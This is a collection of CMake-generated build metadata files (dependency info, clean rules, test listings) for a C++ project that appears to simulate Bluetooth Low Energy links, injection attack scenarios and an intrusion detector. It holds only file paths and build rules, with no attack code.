  "/root/repo/build/bench/CMakeFiles/bench_experiment.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/injectable_core.dir/DependInfo.cmake"
  "/root/repo/build/src/host/CMakeFiles/ble_host.dir/DependInfo.cmake"
  "/root/repo/build/src/gatt/CMakeFiles/ble_gatt.dir/DependInfo.cmake"
  "/root/repo/build/src/att/CMakeFiles/ble_att.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/ble_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/link/CMakeFiles/ble_link.dir/DependInfo.cmake"
  "/root/repo/build/src/phy/CMakeFiles/ble_phy.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
