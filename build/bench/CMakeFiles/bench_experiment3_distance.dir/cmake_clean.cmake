file(REMOVE_RECURSE
  "CMakeFiles/bench_experiment3_distance.dir/bench_experiment3_distance.cpp.o"
  "CMakeFiles/bench_experiment3_distance.dir/bench_experiment3_distance.cpp.o.d"
  "bench_experiment3_distance"
  "bench_experiment3_distance.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_experiment3_distance.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
