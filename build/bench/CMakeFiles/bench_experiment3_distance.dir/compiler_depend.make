# Empty compiler generated dependencies file for bench_experiment3_distance.
# This may be replaced when dependencies are built.
