file(REMOVE_RECURSE
  "CMakeFiles/bench_experiment3_wall.dir/bench_experiment3_wall.cpp.o"
  "CMakeFiles/bench_experiment3_wall.dir/bench_experiment3_wall.cpp.o.d"
  "bench_experiment3_wall"
  "bench_experiment3_wall.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_experiment3_wall.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
