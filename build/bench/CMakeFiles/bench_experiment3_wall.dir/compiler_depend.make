# Empty compiler generated dependencies file for bench_experiment3_wall.
# This may be replaced when dependencies are built.
