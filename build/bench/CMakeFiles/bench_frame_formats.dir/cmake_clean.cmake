file(REMOVE_RECURSE
  "CMakeFiles/bench_frame_formats.dir/bench_frame_formats.cpp.o"
  "CMakeFiles/bench_frame_formats.dir/bench_frame_formats.cpp.o.d"
  "bench_frame_formats"
  "bench_frame_formats.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_frame_formats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
