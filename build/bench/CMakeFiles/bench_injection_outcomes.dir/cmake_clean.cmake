file(REMOVE_RECURSE
  "CMakeFiles/bench_injection_outcomes.dir/bench_injection_outcomes.cpp.o"
  "CMakeFiles/bench_injection_outcomes.dir/bench_injection_outcomes.cpp.o.d"
  "bench_injection_outcomes"
  "bench_injection_outcomes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_injection_outcomes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
