# Empty compiler generated dependencies file for bench_injection_outcomes.
# This may be replaced when dependencies are built.
