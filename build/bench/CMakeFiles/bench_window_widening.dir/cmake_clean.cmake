file(REMOVE_RECURSE
  "CMakeFiles/bench_window_widening.dir/bench_window_widening.cpp.o"
  "CMakeFiles/bench_window_widening.dir/bench_window_widening.cpp.o.d"
  "bench_window_widening"
  "bench_window_widening.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_window_widening.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
