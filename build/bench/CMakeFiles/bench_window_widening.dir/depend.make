# Empty dependencies file for bench_window_widening.
# This may be replaced when dependencies are built.
