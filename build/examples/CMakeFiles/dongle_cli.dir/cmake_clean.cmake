file(REMOVE_RECURSE
  "CMakeFiles/dongle_cli.dir/dongle_cli.cpp.o"
  "CMakeFiles/dongle_cli.dir/dongle_cli.cpp.o.d"
  "dongle_cli"
  "dongle_cli.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/dongle_cli.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
