# Empty dependencies file for dongle_cli.
# This may be replaced when dependencies are built.
