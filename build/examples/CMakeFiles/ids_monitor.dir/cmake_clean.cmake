file(REMOVE_RECURSE
  "CMakeFiles/ids_monitor.dir/ids_monitor.cpp.o"
  "CMakeFiles/ids_monitor.dir/ids_monitor.cpp.o.d"
  "ids_monitor"
  "ids_monitor.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ids_monitor.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
