file(REMOVE_RECURSE
  "CMakeFiles/keystroke_injection.dir/keystroke_injection.cpp.o"
  "CMakeFiles/keystroke_injection.dir/keystroke_injection.cpp.o.d"
  "keystroke_injection"
  "keystroke_injection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/keystroke_injection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
