# Empty compiler generated dependencies file for keystroke_injection.
# This may be replaced when dependencies are built.
