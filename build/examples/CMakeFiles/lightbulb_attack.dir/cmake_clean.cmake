file(REMOVE_RECURSE
  "CMakeFiles/lightbulb_attack.dir/lightbulb_attack.cpp.o"
  "CMakeFiles/lightbulb_attack.dir/lightbulb_attack.cpp.o.d"
  "lightbulb_attack"
  "lightbulb_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lightbulb_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
