# Empty compiler generated dependencies file for lightbulb_attack.
# This may be replaced when dependencies are built.
