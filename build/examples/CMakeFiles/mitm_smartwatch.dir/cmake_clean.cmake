file(REMOVE_RECURSE
  "CMakeFiles/mitm_smartwatch.dir/mitm_smartwatch.cpp.o"
  "CMakeFiles/mitm_smartwatch.dir/mitm_smartwatch.cpp.o.d"
  "mitm_smartwatch"
  "mitm_smartwatch.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mitm_smartwatch.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
