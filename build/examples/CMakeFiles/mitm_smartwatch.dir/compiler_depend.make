# Empty compiler generated dependencies file for mitm_smartwatch.
# This may be replaced when dependencies are built.
