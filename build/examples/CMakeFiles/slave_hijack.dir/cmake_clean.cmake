file(REMOVE_RECURSE
  "CMakeFiles/slave_hijack.dir/slave_hijack.cpp.o"
  "CMakeFiles/slave_hijack.dir/slave_hijack.cpp.o.d"
  "slave_hijack"
  "slave_hijack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/slave_hijack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
