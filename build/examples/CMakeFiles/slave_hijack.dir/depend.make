# Empty dependencies file for slave_hijack.
# This may be replaced when dependencies are built.
