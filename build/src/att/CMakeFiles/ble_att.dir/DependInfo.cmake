
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/att/att_pdu.cpp" "src/att/CMakeFiles/ble_att.dir/att_pdu.cpp.o" "gcc" "src/att/CMakeFiles/ble_att.dir/att_pdu.cpp.o.d"
  "/root/repo/src/att/client.cpp" "src/att/CMakeFiles/ble_att.dir/client.cpp.o" "gcc" "src/att/CMakeFiles/ble_att.dir/client.cpp.o.d"
  "/root/repo/src/att/server.cpp" "src/att/CMakeFiles/ble_att.dir/server.cpp.o" "gcc" "src/att/CMakeFiles/ble_att.dir/server.cpp.o.d"
  "/root/repo/src/att/uuid.cpp" "src/att/CMakeFiles/ble_att.dir/uuid.cpp.o" "gcc" "src/att/CMakeFiles/ble_att.dir/uuid.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
