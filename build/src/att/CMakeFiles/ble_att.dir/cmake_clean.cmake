file(REMOVE_RECURSE
  "CMakeFiles/ble_att.dir/att_pdu.cpp.o"
  "CMakeFiles/ble_att.dir/att_pdu.cpp.o.d"
  "CMakeFiles/ble_att.dir/client.cpp.o"
  "CMakeFiles/ble_att.dir/client.cpp.o.d"
  "CMakeFiles/ble_att.dir/server.cpp.o"
  "CMakeFiles/ble_att.dir/server.cpp.o.d"
  "CMakeFiles/ble_att.dir/uuid.cpp.o"
  "CMakeFiles/ble_att.dir/uuid.cpp.o.d"
  "libble_att.a"
  "libble_att.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_att.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
