file(REMOVE_RECURSE
  "libble_att.a"
)
