# Empty dependencies file for ble_att.
# This may be replaced when dependencies are built.
