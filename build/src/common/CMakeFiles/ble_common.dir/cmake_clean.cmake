file(REMOVE_RECURSE
  "CMakeFiles/ble_common.dir/bytes.cpp.o"
  "CMakeFiles/ble_common.dir/bytes.cpp.o.d"
  "CMakeFiles/ble_common.dir/hex.cpp.o"
  "CMakeFiles/ble_common.dir/hex.cpp.o.d"
  "CMakeFiles/ble_common.dir/log.cpp.o"
  "CMakeFiles/ble_common.dir/log.cpp.o.d"
  "CMakeFiles/ble_common.dir/rng.cpp.o"
  "CMakeFiles/ble_common.dir/rng.cpp.o.d"
  "libble_common.a"
  "libble_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
