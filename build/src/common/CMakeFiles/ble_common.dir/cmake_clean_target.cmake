file(REMOVE_RECURSE
  "libble_common.a"
)
