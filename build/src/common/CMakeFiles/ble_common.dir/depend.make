# Empty dependencies file for ble_common.
# This may be replaced when dependencies are built.
