file(REMOVE_RECURSE
  "CMakeFiles/injectable_core.dir/attacker_radio.cpp.o"
  "CMakeFiles/injectable_core.dir/attacker_radio.cpp.o.d"
  "CMakeFiles/injectable_core.dir/forge.cpp.o"
  "CMakeFiles/injectable_core.dir/forge.cpp.o.d"
  "CMakeFiles/injectable_core.dir/heuristic.cpp.o"
  "CMakeFiles/injectable_core.dir/heuristic.cpp.o.d"
  "CMakeFiles/injectable_core.dir/scenarios.cpp.o"
  "CMakeFiles/injectable_core.dir/scenarios.cpp.o.d"
  "CMakeFiles/injectable_core.dir/session.cpp.o"
  "CMakeFiles/injectable_core.dir/session.cpp.o.d"
  "CMakeFiles/injectable_core.dir/sniffer.cpp.o"
  "CMakeFiles/injectable_core.dir/sniffer.cpp.o.d"
  "libinjectable_core.a"
  "libinjectable_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/injectable_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
