file(REMOVE_RECURSE
  "libinjectable_core.a"
)
