# Empty dependencies file for injectable_core.
# This may be replaced when dependencies are built.
