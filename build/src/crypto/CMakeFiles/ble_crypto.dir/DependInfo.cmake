
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/crypto/aes128.cpp" "src/crypto/CMakeFiles/ble_crypto.dir/aes128.cpp.o" "gcc" "src/crypto/CMakeFiles/ble_crypto.dir/aes128.cpp.o.d"
  "/root/repo/src/crypto/ccm.cpp" "src/crypto/CMakeFiles/ble_crypto.dir/ccm.cpp.o" "gcc" "src/crypto/CMakeFiles/ble_crypto.dir/ccm.cpp.o.d"
  "/root/repo/src/crypto/link_encryption.cpp" "src/crypto/CMakeFiles/ble_crypto.dir/link_encryption.cpp.o" "gcc" "src/crypto/CMakeFiles/ble_crypto.dir/link_encryption.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  "/root/repo/build/src/link/CMakeFiles/ble_link.dir/DependInfo.cmake"
  "/root/repo/build/src/phy/CMakeFiles/ble_phy.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
