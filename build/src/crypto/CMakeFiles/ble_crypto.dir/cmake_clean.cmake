file(REMOVE_RECURSE
  "CMakeFiles/ble_crypto.dir/aes128.cpp.o"
  "CMakeFiles/ble_crypto.dir/aes128.cpp.o.d"
  "CMakeFiles/ble_crypto.dir/ccm.cpp.o"
  "CMakeFiles/ble_crypto.dir/ccm.cpp.o.d"
  "CMakeFiles/ble_crypto.dir/link_encryption.cpp.o"
  "CMakeFiles/ble_crypto.dir/link_encryption.cpp.o.d"
  "libble_crypto.a"
  "libble_crypto.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_crypto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
