file(REMOVE_RECURSE
  "libble_crypto.a"
)
