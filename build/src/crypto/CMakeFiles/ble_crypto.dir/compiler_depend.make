# Empty compiler generated dependencies file for ble_crypto.
# This may be replaced when dependencies are built.
