file(REMOVE_RECURSE
  "CMakeFiles/injectable_dongle.dir/firmware.cpp.o"
  "CMakeFiles/injectable_dongle.dir/firmware.cpp.o.d"
  "CMakeFiles/injectable_dongle.dir/protocol.cpp.o"
  "CMakeFiles/injectable_dongle.dir/protocol.cpp.o.d"
  "libinjectable_dongle.a"
  "libinjectable_dongle.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/injectable_dongle.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
