file(REMOVE_RECURSE
  "libinjectable_dongle.a"
)
