# Empty dependencies file for injectable_dongle.
# This may be replaced when dependencies are built.
