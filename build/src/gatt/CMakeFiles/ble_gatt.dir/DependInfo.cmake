
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/gatt/builder.cpp" "src/gatt/CMakeFiles/ble_gatt.dir/builder.cpp.o" "gcc" "src/gatt/CMakeFiles/ble_gatt.dir/builder.cpp.o.d"
  "/root/repo/src/gatt/profiles.cpp" "src/gatt/CMakeFiles/ble_gatt.dir/profiles.cpp.o" "gcc" "src/gatt/CMakeFiles/ble_gatt.dir/profiles.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/att/CMakeFiles/ble_att.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
