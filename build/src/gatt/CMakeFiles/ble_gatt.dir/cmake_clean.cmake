file(REMOVE_RECURSE
  "CMakeFiles/ble_gatt.dir/builder.cpp.o"
  "CMakeFiles/ble_gatt.dir/builder.cpp.o.d"
  "CMakeFiles/ble_gatt.dir/profiles.cpp.o"
  "CMakeFiles/ble_gatt.dir/profiles.cpp.o.d"
  "libble_gatt.a"
  "libble_gatt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_gatt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
