file(REMOVE_RECURSE
  "libble_gatt.a"
)
