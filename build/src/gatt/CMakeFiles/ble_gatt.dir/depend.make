# Empty dependencies file for ble_gatt.
# This may be replaced when dependencies are built.
