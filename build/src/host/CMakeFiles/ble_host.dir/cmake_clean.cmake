file(REMOVE_RECURSE
  "CMakeFiles/ble_host.dir/central.cpp.o"
  "CMakeFiles/ble_host.dir/central.cpp.o.d"
  "CMakeFiles/ble_host.dir/l2cap.cpp.o"
  "CMakeFiles/ble_host.dir/l2cap.cpp.o.d"
  "CMakeFiles/ble_host.dir/peripheral.cpp.o"
  "CMakeFiles/ble_host.dir/peripheral.cpp.o.d"
  "libble_host.a"
  "libble_host.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_host.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
