file(REMOVE_RECURSE
  "libble_host.a"
)
