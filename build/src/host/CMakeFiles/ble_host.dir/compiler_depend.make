# Empty compiler generated dependencies file for ble_host.
# This may be replaced when dependencies are built.
