file(REMOVE_RECURSE
  "CMakeFiles/ble_ids.dir/detector.cpp.o"
  "CMakeFiles/ble_ids.dir/detector.cpp.o.d"
  "libble_ids.a"
  "libble_ids.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_ids.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
