file(REMOVE_RECURSE
  "libble_ids.a"
)
