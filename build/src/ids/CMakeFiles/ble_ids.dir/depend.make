# Empty dependencies file for ble_ids.
# This may be replaced when dependencies are built.
