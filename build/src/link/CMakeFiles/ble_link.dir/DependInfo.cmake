
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/link/address.cpp" "src/link/CMakeFiles/ble_link.dir/address.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/address.cpp.o.d"
  "/root/repo/src/link/adv_pdu.cpp" "src/link/CMakeFiles/ble_link.dir/adv_pdu.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/adv_pdu.cpp.o.d"
  "/root/repo/src/link/channel_map.cpp" "src/link/CMakeFiles/ble_link.dir/channel_map.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/channel_map.cpp.o.d"
  "/root/repo/src/link/channel_selection.cpp" "src/link/CMakeFiles/ble_link.dir/channel_selection.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/channel_selection.cpp.o.d"
  "/root/repo/src/link/connection.cpp" "src/link/CMakeFiles/ble_link.dir/connection.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/connection.cpp.o.d"
  "/root/repo/src/link/control_pdu.cpp" "src/link/CMakeFiles/ble_link.dir/control_pdu.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/control_pdu.cpp.o.d"
  "/root/repo/src/link/device.cpp" "src/link/CMakeFiles/ble_link.dir/device.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/device.cpp.o.d"
  "/root/repo/src/link/pdu.cpp" "src/link/CMakeFiles/ble_link.dir/pdu.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/pdu.cpp.o.d"
  "/root/repo/src/link/trace.cpp" "src/link/CMakeFiles/ble_link.dir/trace.cpp.o" "gcc" "src/link/CMakeFiles/ble_link.dir/trace.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/phy/CMakeFiles/ble_phy.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
