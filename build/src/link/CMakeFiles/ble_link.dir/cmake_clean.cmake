file(REMOVE_RECURSE
  "CMakeFiles/ble_link.dir/address.cpp.o"
  "CMakeFiles/ble_link.dir/address.cpp.o.d"
  "CMakeFiles/ble_link.dir/adv_pdu.cpp.o"
  "CMakeFiles/ble_link.dir/adv_pdu.cpp.o.d"
  "CMakeFiles/ble_link.dir/channel_map.cpp.o"
  "CMakeFiles/ble_link.dir/channel_map.cpp.o.d"
  "CMakeFiles/ble_link.dir/channel_selection.cpp.o"
  "CMakeFiles/ble_link.dir/channel_selection.cpp.o.d"
  "CMakeFiles/ble_link.dir/connection.cpp.o"
  "CMakeFiles/ble_link.dir/connection.cpp.o.d"
  "CMakeFiles/ble_link.dir/control_pdu.cpp.o"
  "CMakeFiles/ble_link.dir/control_pdu.cpp.o.d"
  "CMakeFiles/ble_link.dir/device.cpp.o"
  "CMakeFiles/ble_link.dir/device.cpp.o.d"
  "CMakeFiles/ble_link.dir/pdu.cpp.o"
  "CMakeFiles/ble_link.dir/pdu.cpp.o.d"
  "CMakeFiles/ble_link.dir/trace.cpp.o"
  "CMakeFiles/ble_link.dir/trace.cpp.o.d"
  "libble_link.a"
  "libble_link.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_link.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
