file(REMOVE_RECURSE
  "libble_link.a"
)
