# Empty dependencies file for ble_link.
# This may be replaced when dependencies are built.
