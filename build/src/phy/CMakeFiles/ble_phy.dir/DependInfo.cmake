
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/phy/access_address.cpp" "src/phy/CMakeFiles/ble_phy.dir/access_address.cpp.o" "gcc" "src/phy/CMakeFiles/ble_phy.dir/access_address.cpp.o.d"
  "/root/repo/src/phy/crc.cpp" "src/phy/CMakeFiles/ble_phy.dir/crc.cpp.o" "gcc" "src/phy/CMakeFiles/ble_phy.dir/crc.cpp.o.d"
  "/root/repo/src/phy/frame.cpp" "src/phy/CMakeFiles/ble_phy.dir/frame.cpp.o" "gcc" "src/phy/CMakeFiles/ble_phy.dir/frame.cpp.o.d"
  "/root/repo/src/phy/mode.cpp" "src/phy/CMakeFiles/ble_phy.dir/mode.cpp.o" "gcc" "src/phy/CMakeFiles/ble_phy.dir/mode.cpp.o.d"
  "/root/repo/src/phy/whitening.cpp" "src/phy/CMakeFiles/ble_phy.dir/whitening.cpp.o" "gcc" "src/phy/CMakeFiles/ble_phy.dir/whitening.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ble_sim.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
