file(REMOVE_RECURSE
  "CMakeFiles/ble_phy.dir/access_address.cpp.o"
  "CMakeFiles/ble_phy.dir/access_address.cpp.o.d"
  "CMakeFiles/ble_phy.dir/crc.cpp.o"
  "CMakeFiles/ble_phy.dir/crc.cpp.o.d"
  "CMakeFiles/ble_phy.dir/frame.cpp.o"
  "CMakeFiles/ble_phy.dir/frame.cpp.o.d"
  "CMakeFiles/ble_phy.dir/mode.cpp.o"
  "CMakeFiles/ble_phy.dir/mode.cpp.o.d"
  "CMakeFiles/ble_phy.dir/whitening.cpp.o"
  "CMakeFiles/ble_phy.dir/whitening.cpp.o.d"
  "libble_phy.a"
  "libble_phy.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_phy.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
