file(REMOVE_RECURSE
  "libble_phy.a"
)
