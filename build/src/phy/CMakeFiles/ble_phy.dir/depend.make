# Empty dependencies file for ble_phy.
# This may be replaced when dependencies are built.
