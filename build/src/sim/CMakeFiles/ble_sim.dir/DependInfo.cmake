
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sim/capture.cpp" "src/sim/CMakeFiles/ble_sim.dir/capture.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/capture.cpp.o.d"
  "/root/repo/src/sim/medium.cpp" "src/sim/CMakeFiles/ble_sim.dir/medium.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/medium.cpp.o.d"
  "/root/repo/src/sim/path_loss.cpp" "src/sim/CMakeFiles/ble_sim.dir/path_loss.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/path_loss.cpp.o.d"
  "/root/repo/src/sim/radio_device.cpp" "src/sim/CMakeFiles/ble_sim.dir/radio_device.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/radio_device.cpp.o.d"
  "/root/repo/src/sim/scheduler.cpp" "src/sim/CMakeFiles/ble_sim.dir/scheduler.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/scheduler.cpp.o.d"
  "/root/repo/src/sim/sleep_clock.cpp" "src/sim/CMakeFiles/ble_sim.dir/sleep_clock.cpp.o" "gcc" "src/sim/CMakeFiles/ble_sim.dir/sleep_clock.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
