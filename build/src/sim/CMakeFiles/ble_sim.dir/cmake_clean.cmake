file(REMOVE_RECURSE
  "CMakeFiles/ble_sim.dir/capture.cpp.o"
  "CMakeFiles/ble_sim.dir/capture.cpp.o.d"
  "CMakeFiles/ble_sim.dir/medium.cpp.o"
  "CMakeFiles/ble_sim.dir/medium.cpp.o.d"
  "CMakeFiles/ble_sim.dir/path_loss.cpp.o"
  "CMakeFiles/ble_sim.dir/path_loss.cpp.o.d"
  "CMakeFiles/ble_sim.dir/radio_device.cpp.o"
  "CMakeFiles/ble_sim.dir/radio_device.cpp.o.d"
  "CMakeFiles/ble_sim.dir/scheduler.cpp.o"
  "CMakeFiles/ble_sim.dir/scheduler.cpp.o.d"
  "CMakeFiles/ble_sim.dir/sleep_clock.cpp.o"
  "CMakeFiles/ble_sim.dir/sleep_clock.cpp.o.d"
  "libble_sim.a"
  "libble_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ble_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
