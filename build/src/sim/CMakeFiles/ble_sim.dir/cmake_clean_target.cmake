file(REMOVE_RECURSE
  "libble_sim.a"
)
