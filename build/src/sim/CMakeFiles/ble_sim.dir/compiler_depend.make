# Empty compiler generated dependencies file for ble_sim.
# This may be replaced when dependencies are built.
