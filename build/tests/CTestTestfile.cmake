# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("common")
subdirs("sim")
subdirs("phy")
subdirs("link")
subdirs("crypto")
subdirs("att")
subdirs("gatt")
subdirs("host")
subdirs("core")
subdirs("ids")
subdirs("dongle")
subdirs("integration")
