
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/att/att_pdu_test.cpp" "tests/att/CMakeFiles/att_test.dir/att_pdu_test.cpp.o" "gcc" "tests/att/CMakeFiles/att_test.dir/att_pdu_test.cpp.o.d"
  "/root/repo/tests/att/client_test.cpp" "tests/att/CMakeFiles/att_test.dir/client_test.cpp.o" "gcc" "tests/att/CMakeFiles/att_test.dir/client_test.cpp.o.d"
  "/root/repo/tests/att/server_edge_test.cpp" "tests/att/CMakeFiles/att_test.dir/server_edge_test.cpp.o" "gcc" "tests/att/CMakeFiles/att_test.dir/server_edge_test.cpp.o.d"
  "/root/repo/tests/att/server_test.cpp" "tests/att/CMakeFiles/att_test.dir/server_test.cpp.o" "gcc" "tests/att/CMakeFiles/att_test.dir/server_test.cpp.o.d"
  "/root/repo/tests/att/uuid_test.cpp" "tests/att/CMakeFiles/att_test.dir/uuid_test.cpp.o" "gcc" "tests/att/CMakeFiles/att_test.dir/uuid_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/att/CMakeFiles/ble_att.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/ble_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
