file(REMOVE_RECURSE
  "CMakeFiles/att_test.dir/att_pdu_test.cpp.o"
  "CMakeFiles/att_test.dir/att_pdu_test.cpp.o.d"
  "CMakeFiles/att_test.dir/client_test.cpp.o"
  "CMakeFiles/att_test.dir/client_test.cpp.o.d"
  "CMakeFiles/att_test.dir/server_edge_test.cpp.o"
  "CMakeFiles/att_test.dir/server_edge_test.cpp.o.d"
